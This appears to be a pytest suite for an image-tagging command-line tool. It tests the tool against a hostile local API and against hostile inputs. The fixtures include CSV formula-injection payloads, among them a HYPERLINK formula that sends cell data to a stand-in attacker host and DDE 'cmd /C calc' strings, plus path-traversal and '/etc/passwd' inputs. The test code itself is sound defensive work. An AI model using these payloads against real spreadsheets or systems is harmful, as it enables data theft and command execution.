"""A tagger that survives its server and its inputs: an API on 127.0.0.1 answering every wrong shape, URL lists
and CSVs that name this machine's files, resume files of any shape, spreadsheet formulas."""

import csv
import json
import os
import subprocess
import sys
import time
import unicodedata
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalog import calls, client, results, sources, tag
from harness import REPO
from harness.servers import Quiet, reply, serving
from lambda_fn.answers import shape_problem

MODEL = {"name": "m", "sha256": "0" * 64, "min_confidence": 0.9, "target_precision": 0.98}
PREDICTION = {
    "label": "hat",
    "probability": 0.95,
    "confident": True,
    "probabilities": [{"label": "hat", "probability": 0.95}, {"label": "dress", "probability": 0.05}],
    "model": MODEL,
}
# What the API answers for a URL ending in /<case>.jpg: (status, body, headers) or a callable of the handler
WRONG_SHAPES = {
    "string": json.dumps("just a string"),
    "list": "[1, 2]",
    "model-string": json.dumps({**PREDICTION, "model": "m"}),
    "number-probabilities": json.dumps({**PREDICTION, "probabilities": [0.95, 0.05]}),
    "no-label": json.dumps({"probability": 0.5, "probabilities": []}),
    "probability-nan": json.dumps({**PREDICTION, "probability": float("nan")}),
    "confident-string": json.dumps({**PREDICTION, "confident": "yes"}),
    "error-string": json.dumps({"error": "boom"}),
}
PYTHONPATH = {**os.environ, "PYTHONPATH": str(REPO)}
FORMULAS = {
    "formula-label": '=HYPERLINK("http://attacker.invalid/?d="&A1,"click")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-plus": "+cmd|' /C calc'!A0",
}


class HostileApi(Quiet):
    """API Gateway gone wrong: one misbehaviour a case, named by the requested URL's file name."""

    seen: Counter  # requests per case
    uploads: list  # the Content-Types of bodies that were not JSON: files sent

    def do_POST(self):
        if self.headers["Content-Type"] != "application/json":
            self.uploads.append(self.headers["Content-Type"])
            return reply(self, 400, b"{}")
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        urls = body.get("urls") or [body["url"]]
        case = urls[0].rsplit("/", 1)[1].removesuffix(".jpg")
        self.seen[case] += 1
        if "urls" in body:  # a batch: one result short
            return reply(self, 200, json.dumps({"results": [PREDICTION] * (len(urls) - 1), "model": MODEL}).encode())
        if case in WRONG_SHAPES:
            return reply(self, 200, WRONG_SHAPES[case].encode())
        if case in FORMULAS:
            return reply(
                self, 200, json.dumps({**PREDICTION, "label": FORMULAS[case], "model": {"name": "=1+1"}}).encode()
            )
        if case.startswith("retry-after-") and self.seen[case] == 1:
            return reply(self, 503, b"{}", headers={"Retry-After": case.removeprefix("retry-after-")})
        if case == "truncated" and self.seen[case] == 1:  # says 1000 bytes, sends 10, hangs up
            self.send_response(200)
            self.send_header("Content-Length", "1000")
            self.end_headers()
            self.wfile.write(b'{"label": ')
            self.close_connection = True
            return
        if case == "huge":  # an endless answer: must not be read whole
            self.send_response(200)
            self.end_headers()
            try:
                for _ in range(1000):
                    self.wfile.write(b" " * 65536)
            except OSError:
                pass
            return
        if case == "drip":  # a byte every 0.2 s: each read is quick, the whole is not
            self.send_response(200)
            self.send_header("Content-Length", "100000")
            self.end_headers()
            try:
                for _ in range(500):
                    self.wfile.write(b" ")
                    self.wfile.flush()
                    time.sleep(0.2)
            except OSError:
                pass
            return
        reply(self, 200, json.dumps(PREDICTION).encode())


def hostile_api(uploads: list | None = None):
    return serving(type("Handler", (HostileApi,), {"seen": Counter(), "uploads": [] if uploads is None else uploads}))


def rows_of(path: Path) -> dict[str, dict]:
    return {r["source"]: r for r in map(json.loads, path.read_text().splitlines())}


def test_every_wrong_answer_becomes_its_sources_error_row_and_the_run_goes_on(tmp_path, monkeypatch):
    monkeypatch.setattr(client, "MAX_RETRY_AFTER", 0.2)  # the clamp, made short for the test
    cases = [*WRONG_SHAPES, "retry-after-1e308", "retry-after-inf", "retry-after-999999", "truncated", "huge"]
    cases += ["drip", "fine"]
    sources = [f"http://127.0.0.1:9/{case}.jpg" for case in cases]
    out = tmp_path / "tags.jsonl"
    started = time.monotonic()
    with hostile_api() as api:
        flags = ["--api", api, "--batch", "1", "--backoff", "0.01", "--attempts", "2", "--timeout", "2"]
        status = tag.main([*sources, *flags, "--out", str(out)])
    rows = rows_of(out)
    assert status == 1 and sorted(rows) == sorted(sources) and time.monotonic() - started < 30
    by_case = {case: rows[url] for case, url in zip(cases, sources, strict=True)}
    for case in WRONG_SHAPES:
        assert by_case[case]["error_code"] == "bad_answer" and "shape" in by_case[case]["error_message"], case
    for case in ("retry-after-1e308", "retry-after-inf", "retry-after-999999", "truncated"):  # retried, then fine
        assert by_case[case]["label"] == "hat" and by_case[case]["attempts"] == 2, case
    assert by_case["huge"]["error_code"] == "bad_answer" and "over 1048576 bytes" in by_case["huge"]["error_message"]
    assert by_case["drip"]["error_code"] == "unavailable" and "deadline" in by_case["drip"]["error_message"]
    assert by_case["fine"]["confident"] is True and by_case["fine"]["min_confidence"] == 0.9


def test_a_batch_answered_with_too_few_results_is_each_sources_error(tmp_path):
    sources = [f"http://127.0.0.1:9/batch{k}.jpg" for k in range(3)]
    out = tmp_path / "tags.jsonl"
    with hostile_api() as api:
        tag.main([*sources, "--api", api, "--batch", "3", "--out", str(out)])
    rows = rows_of(out)
    assert [r["error_code"] for r in rows.values()] == ["bad_answer"] * 3
    assert "not a list of 3 results" in rows[sources[0]]["error_message"]


@pytest.mark.parametrize("value, seconds", [("1e308", 60.0), ("inf", 60.0), ("999999", 60.0), ("-5", 0.0), ("2", 2.0)])
def test_retry_after_is_clamped(value, seconds):
    assert client.retry_after(value) == seconds
    assert client.retry_after("nan") is None and client.retry_after("soon") is None


def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_read_back(tmp_path):
    sources = [f"http://127.0.0.1:9/{case}.jpg" for case in FORMULAS]
    out = tmp_path / "tags.csv"
    with hostile_api() as api:
        tag.main([*sources, "--api", api, "--batch", "1", "--format", "csv", "--out", str(out)])
    with out.open(newline="") as f:
        cells = [cell for r in csv.DictReader(f) for cell in r.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULAS["formula-label"] in cells and "'=1+1" in cells
    restored = {r["source"]: r for r in results.previous_rows(out, "csv")}
    assert [restored[s]["label"] for s in sources] == list(FORMULAS.values())  # resume reads the labels back


texts = st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | texts,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
    max_leaves=20,
)
answers = st.fixed_dictionaries(
    {},
    optional={
        "label": json_values | texts,
        "probability": json_values | st.floats(0, 1),
        "confident": json_values | st.booleans(),
        "probabilities": json_values
        | st.lists(st.fixed_dictionaries({"label": texts, "probability": st.floats(0, 1)}), max_size=4),
        "model": json_values | st.fixed_dictionaries({"name": texts, "sha256": texts}),
        "error": json_values | st.fixed_dictionaries({"code": texts, "message": texts}),
    },
)


@settings(max_examples=400, deadline=None)
@given(json_values | answers)
def test_any_json_answer_becomes_a_row_never_an_exception(answer):
    result = results.row("http://127.0.0.1:9/x.jpg", calls.checked(answer), 1)
    assert results.fits(result)
    assert (result["error_code"] is None) is (shape_problem(answer) is None and "error" not in answer)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.fixed_dictionaries({"label": texts.filter(bool), "message": texts, "source": texts.filter(bool)})))
def test_rows_of_any_text_survive_the_csv_round_trip(tmp_path_factory, found):
    out = tmp_path_factory.mktemp("rows") / "tags.csv"
    rows = [
        results.row(f["source"], {"error": {"code": "x", "message": f["message"]}}, 1)
        if f["message"]
        else results.row(f["source"], {**PREDICTION, "label": f["label"]}, 1)
        for f in found
    ]
    table = results.Table(out, "csv")
    for r in rows:
        table.write(r)
    table.close()
    assert results.previous_rows(out, "csv") == rows


def test_inputs_name_only_urls_and_the_csvs_own_files(tmp_path):
    """A URL list holds URLs; a CSV's paths stay in its folder; nothing else on this machine is read or sent."""
    sent: list[str] = []
    shop = tmp_path / "shop"
    shop.mkdir()
    (tmp_path / "secret.jpg").write_bytes(b"not for the API")
    (shop / "zero.jpg").symlink_to("/dev/zero")
    os.mkfifo(shop / "pipe.jpg")
    (shop / "urls.txt").write_text(
        "/etc/hostname\n../../../../etc/hostname\n/dev/zero\nfile:///etc/passwd\n" + "h" * 5000 + "\n"
    )
    (shop / "catalog.csv").write_text(
        "url\n../secret.jpg\n/etc/hostname\nzero.jpg\npipe.jpg\n"
        + '"'
        + "x" * 200_000
        + '"\nhttp://127.0.0.1:9/ok.jpg\n'
        + "y" * 3_000_000
        + "\n"
    )
    out = tmp_path / "tags.jsonl"
    with hostile_api(sent) as api:
        status = tag.main([str(shop / "urls.txt"), str(shop / "catalog.csv"), "--api", api, "--out", str(out)])
    rows = list(rows_of(out).values())
    assert status == 1 and len(rows) == 12 and sent == []  # no file went to the API
    assert sum(r["error_code"] is None for r in rows) == 1  # the one URL
    refused = [r for r in rows if r["error_code"]]
    assert {r["error_code"] for r in refused} == {"invalid_input"}, refused
    assert sum("outside the CSV's folder" in r["error_message"] for r in refused) == 3  # ../secret, /etc, the link
    assert sum("not an http(s) URL" in r["error_message"] for r in refused) == 4
    assert any("not a regular file" in r["error_message"] for r in refused)  # the pipe: no hang, not read
    assert any("cannot be read" in r["error_message"] for r in refused)  # the 200,000-character cell
    assert any("over 2048 characters" in r["error_message"] for r in refused)
    assert any("over 1048576 characters" in r["error_message"] for r in refused)  # a 3 MB line, never held whole


def test_resume_drops_rows_of_any_other_shape_and_asks_again(tmp_path):
    sources = [f"http://127.0.0.1:9/fine{k}.jpg" for k in range(4)]
    out = tmp_path / "tags.jsonl"
    good = results.row(sources[0], PREDICTION, 1)
    no_error_code = {k: v for k, v in results.row(sources[1], PREDICTION, 1).items() if k != "error_code"}
    out.write_text("\n".join([json.dumps(good), "[]", json.dumps(no_error_code), '"text"', "{"]) + "\n")
    with hostile_api() as api:
        tag.main([*sources, "--api", api, "--batch", "1", "--out", str(out), "--resume"])
    assert sorted(rows_of(out)) == sources and len(out.read_text().splitlines()) == 4


def test_resume_of_a_csv_cut_inside_a_quoted_multi_line_message(tmp_path):
    out = tmp_path / "tags.csv"
    rows = [results.row(f"http://127.0.0.1:9/fine{k}.jpg", PREDICTION, 1) for k in range(2)]
    rows.append(results.row("http://127.0.0.1:9/fine2.jpg", {"error": {"code": "x", "message": "one\ntwo\nthree"}}, 1))
    table = results.Table(out, "csv")
    for r in rows:
        table.write(r)
    table.close()
    text = out.read_text()
    out.write_text(text[: text.index("two") + 4])  # the stop fell after "one\ntwo\n"
    assert results.previous_rows(out, "csv") == rows[:2]


def test_the_review_file_holds_the_unsure_rows_and_stays_consistent_on_resume(tmp_path):
    sure, unsure = "http://127.0.0.1:9/fine.jpg", "http://127.0.0.1:9/unsure.jpg"
    out, review = tmp_path / "tags.jsonl", tmp_path / "review.jsonl"
    unsure_row = results.row(unsure, {**PREDICTION, "confident": False, "candidates": ["hat", "dress"]}, 1)
    out.write_text(json.dumps(unsure_row) + "\n")  # a stopped run answered the unsure one
    review.write_text("stale\n")
    with hostile_api() as api:
        tag.main([sure, unsure, "--api", api, "--out", str(out), "--review", str(review), "--resume"])
    assert set(rows_of(out)) == {sure, unsure}
    assert list(rows_of(review)) == [unsure]  # rewritten: only the out file's unsure rows


# -- names that are not text, paths no file can have, files in two roles, resume of another format (issue 39) ------


def is_utf8(path: Path) -> bool:
    try:
        path.read_bytes().decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


file_names = st.binary(min_size=1, max_size=40).filter(
    # what a file system accepts as a name; a \ could make a name another's escaped spelling (docs/catalog.md)
    lambda name: b"/" not in name and b"\0" not in name and b"\\" not in name and name not in (b".", b"..")
)


@settings(max_examples=25, deadline=None)
@given(st.lists(file_names, min_size=1, max_size=4, unique=True), st.sampled_from(list(results.FORMATS)))
def test_files_named_in_any_bytes_get_one_row_each_and_resume(tmp_path_factory, names, form):
    """A folder's file names are bytes: one that is not UTF-8 is an error row named with its bytes escaped; the
    results file stays UTF-8, and --resume (with or without --skip-failed) reads it back and ends with one row each."""
    folder = tmp_path_factory.mktemp("names")
    for name in names:
        (folder / os.fsdecode(name + b".jpg")).write_bytes(b"not a photo")
    expected = {str(folder / (name + b".jpg").decode("utf-8", "backslashreplace")) for name in names}
    out = folder / f"tags.{form}"
    with hostile_api() as api:  # a file upload is answered 400 at once: every file gets a row, fast
        for resume in ([], ["--resume"], ["--resume", "--skip-failed"]):
            status = tag.main([str(folder), "--api", api, "--format", form, "--out", str(out), *resume])
            rows = results.previous_rows(out, form)
            assert status == (0 if "--skip-failed" in resume else 1)  # every row failed: kept, nothing asked again
            assert is_utf8(out) and sorted(r["source"] for r in rows) == sorted(expected)
    for r in rows:
        utf8 = r["source"] in {str(folder / os.fsdecode(name + b".jpg")) for name in names}
        assert r["error_code"] == ("http_400" if utf8 else "invalid_input"), r
        assert utf8 or "is not UTF-8 text: rename the file" in r["error_message"]


@pytest.mark.parametrize("form", list(results.FORMATS))
def test_a_photo_named_in_latin1_beside_good_ones_is_an_error_row_and_the_run_goes_on(
    tmp_path, image_files, local_server, form
):
    folder = tmp_path / "photos"
    folder.mkdir()
    for name in ("hat.jpg", "pants.jpg"):
        (folder / name).write_bytes(image_files[name].read_bytes())
    (folder / os.fsdecode(b"x\xff.jpg")).write_bytes(image_files["hat.jpg"].read_bytes())
    out = tmp_path / f"tags.{form}"
    for resume in ([], ["--resume"]):
        status = tag.main([str(folder), "--endpoint", local_server, "--format", form, "--out", str(out), *resume])
        rows = {r["source"]: r for r in results.previous_rows(out, form)}
        assert status == 1 and is_utf8(out) and len(rows) == 3
        assert rows[str(folder / "hat.jpg")]["label"] and rows[str(folder / "pants.jpg")]["label"]
        assert rows[str(folder / "x\\xff.jpg")]["error_code"] == "invalid_input"


def test_an_answer_holding_a_lone_surrogate_is_a_bad_answer_not_a_crash(tmp_path):
    answer = json.loads('{"label": "hat\\ud800", "probability": 0.9, "confident": true, "probabilities": []}')
    result = results.row("http://127.0.0.1:9/x.jpg", calls.checked(answer), 1)
    assert result["error_code"] == "bad_answer" and "not Unicode" in result["error_message"]
    out = tmp_path / "tags.csv"
    table = results.Table(out, "csv")
    table.write(result)
    table.close()
    assert results.previous_rows(out, "csv") == [result]


def test_csv_path_cells_no_file_can_have_are_error_rows_and_the_run_goes_on(tmp_path, image_files, local_server):
    shop = tmp_path / "shop"
    shop.mkdir()
    (shop / "hat.jpg").write_bytes(image_files["hat.jpg"].read_bytes())
    (shop / "loop.jpg").symlink_to("loop.jpg")
    table = shop / "catalog.csv"
    table.write_text('\ufeffurl\n"b\x00.jpg"\nloop.jpg\nhat.jpg\n', encoding="utf-8")  # a spreadsheet's BOM too
    out = tmp_path / "tags.jsonl"
    status = tag.main([str(table), "--endpoint", local_server, "--out", str(out)])
    rows = rows_of(out)
    assert status == 1 and len(rows) == 3 and rows[str(shop / "hat.jpg")]["label"]
    assert rows[f"{table}:2"]["error_code"] == "invalid_input" and "null byte" in rows[f"{table}:2"]["error_message"]
    assert rows[f"{table}:3"]["error_code"] in ("invalid_input", "not_found")


cells = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)


@settings(max_examples=300, deadline=None)
@given(st.lists(cells, max_size=6))
def test_csv_catalogs_of_any_cells_become_sources_never_an_exception(tmp_path_factory, values):
    """Each cell becomes a URL, a path inside the CSV's folder that the OS can open, or an error row."""
    table = tmp_path_factory.mktemp("shop") / "catalog.csv"
    with table.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["url"], *([v] for v in values)])
    for source in sources.read_sources([str(table)], "url"):
        if source.problem is None and not client.is_url(source.name):
            assert Path(source.name).resolve().is_relative_to(table.parent.resolve())  # a path the OS takes


@pytest.mark.parametrize("spelling", ["sub/../tags.jsonl", "absolute", "symlink", "hard-link", "symlink-first"])
def test_review_naming_outs_file_by_another_spelling_is_refused(tmp_path, monkeypatch, capsys, spelling):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sub").mkdir()
    out = Path("tags.jsonl")
    if spelling != "symlink-first":  # a run before wrote it; else neither is there yet
        out.write_text("")
    review = {"absolute": tmp_path / "tags.jsonl", "sub/../tags.jsonl": Path("sub/../tags.jsonl")}.get(spelling)
    if review is None:
        review = Path("review.jsonl")
        review.hardlink_to(out) if spelling == "hard-link" else review.symlink_to(out)
    with pytest.raises(SystemExit):
        tag.parse_args(["x.jpg", "--endpoint", "http://127.0.0.1:9", "--out", str(out), "--review", str(review)])
    assert "is the same file as --out (tags.jsonl)" in capsys.readouterr().err


def test_review_naming_the_file_standard_output_goes_to_is_refused(tmp_path):
    out = tmp_path / "tags.jsonl"
    command = [sys.executable, "-m", "catalog.tag", "x.jpg", "--endpoint", "http://127.0.0.1:9", "--review", str(out)]
    with out.open("w") as stdout:  # python -m catalog.tag ... --review tags.jsonl > tags.jsonl
        done = subprocess.run(command, stdout=stdout, stderr=subprocess.PIPE, text=True, env=PYTHONPATH, timeout=60)
    assert done.returncode == 2 and "is the same file as --out (standard output)" in done.stderr


def test_results_naming_an_input_are_refused_and_files_of_their_own_are_not(tmp_path, capsys):
    table = tmp_path / "catalog.csv"
    table.write_text("url\nhttp://127.0.0.1:9/x.jpg\n")
    flags = [str(table), "--endpoint", "http://127.0.0.1:9"]
    with pytest.raises(SystemExit):
        tag.parse_args([*flags, "--out", str(tmp_path / "." / "catalog.csv")])
    assert "is the input" in capsys.readouterr().err
    args = tag.parse_args([*flags, "--out", str(tmp_path / "tags.jsonl"), "--review", str(tmp_path / "review.jsonl")])
    assert args.out != args.review


def written(path: Path, form: str, count: int) -> bytes:
    """What a run of this format writes for `count` sources (some unsure, one failed)."""
    table = results.Table(path, form)
    for k in range(count):
        answer = {**PREDICTION, "confident": k % 2 == 0} if k else {"error": {"code": "x", "message": "a\nb"}}
        table.write(results.row(f"http://127.0.0.1:9/fine{k}.jpg", answer, 1))
    table.close()
    return path.read_bytes()


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(list(results.FORMATS)), st.data())
def test_a_file_cut_anywhere_resumes_in_its_own_format_and_is_never_rewritten_in_another(tmp_path_factory, form, data):
    """A stop can cut the file anywhere: resumed with its own --format it is read back; with another, it is left
    as it is and the run says which --format it holds."""
    out = tmp_path_factory.mktemp("cut") / "tags.out"
    whole = written(out, form, 4)
    cut = whole[: data.draw(st.integers(1, len(whole)))]
    other = next(f for f in results.FORMATS if f != form)
    out.write_bytes(cut)
    with pytest.raises(results.Unreadable, match=f"resume it with --format {form}"):
        results.resumed_rows(out, other)
    assert out.read_bytes() == cut
    kept = results.resumed_rows(out, form)
    assert len(kept) <= 4 and all(r["source"].startswith("http://127.0.0.1:9/fine") for r in kept)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode), st.sampled_from(list(results.FORMATS)))
def test_resume_never_rewrites_a_file_it_cannot_read_back_as_rows(tmp_path_factory, content, form):
    out = tmp_path_factory.mktemp("foreign") / "tags.out"
    out.write_bytes(content)
    try:
        kept = results.resumed_rows(out, form)
    except results.Unreadable:
        return
    text = content.decode("utf-8", "replace")
    assert kept or results.FIRST_WRITTEN[form].startswith(text) or text.startswith(results.FIRST_WRITTEN[form])


@pytest.mark.parametrize("form", list(results.FORMATS))
def test_resume_with_another_format_refuses_and_leaves_the_file(tmp_path, capsys, form):
    out = tmp_path / "tags.out"
    before = written(out, form, 40)
    other = next(f for f in results.FORMATS if f != form)
    status = tag.main(
        ["http://127.0.0.1:9/new.jpg", "--endpoint", "http://127.0.0.1:9", "--out", str(out)]
        + ["--format", other, "--resume"]
    )
    assert status == 2 and out.read_bytes() == before
    assert f"holds {results.FORMATS[form]} rows" in capsys.readouterr().err
    out.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))  # someone else's file
    status = tag.main(["http://127.0.0.1:9/new.jpg", "--endpoint", "http://127.0.0.1:9", "--out", str(out), "--resume"])
    assert status == 2 and out.read_bytes().startswith(b"\x89PNG") and "left as it is" in capsys.readouterr().err


# What leads a cell that a spreadsheet or its importer may skip, and the signs (and look-alikes) that start a formula
SKIPPED = [" ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", "\u3000", "\u2028", "\x0b", "\x1f", "\u202e"]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u207a", "\u208c", "\u2212", "\u2013"]
# the review's cells, written unescaped before: ' =1+1', '\n=1+1', '＝1+1', NBSP, BOM, U+2212 ...
REVIEWED = [lead + sign + "1+1" for lead in ["", *SKIPPED[:8]] for sign in SIGNS[:2]] + ["\u22121+1", "\uff1d1+1"]
formulas = st.builds(
    lambda lead, sign, rest: lead + sign + rest,
    st.lists(st.sampled_from(SKIPPED) | st.characters(categories=["Zs", "Cc", "Cf"]), max_size=3).map("".join),
    st.sampled_from(SIGNS) | st.characters().filter(lambda c: unicodedata.normalize("NFKC", c)[:1] in "=+-@"),
    st.text(max_size=10),
)


@settings(max_examples=500, deadline=None)
@given(st.sampled_from(REVIEWED) | formulas | cells)
def test_every_cell_a_spreadsheet_could_run_is_escaped_and_reads_back_exactly(tmp_path_factory, cell):
    """A cell whose first character a spreadsheet could skip, or whose first sign could start a formula (after
    NFKC: full-width and other look-alikes), is written behind a '; reading it back drops that ' alone."""
    escaped = results.spreadsheet_safe(cell)
    stripped = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n\u00a0\u3000\ufeff\u200b")
    if stripped[:1] in ("=", "+", "-", "@", "\u2212") or cell[:1] in SKIPPED or cell.startswith("'"):
        assert escaped == "'" + cell
    out = tmp_path_factory.mktemp("cells") / "tags.csv"
    table = results.Table(out, "csv")
    written_row = results.row(cell or "x", {"error": {"code": "x", "message": cell}}, 1)
    table.write(written_row)
    table.close()
    assert results.previous_rows(out, "csv") == [written_row]
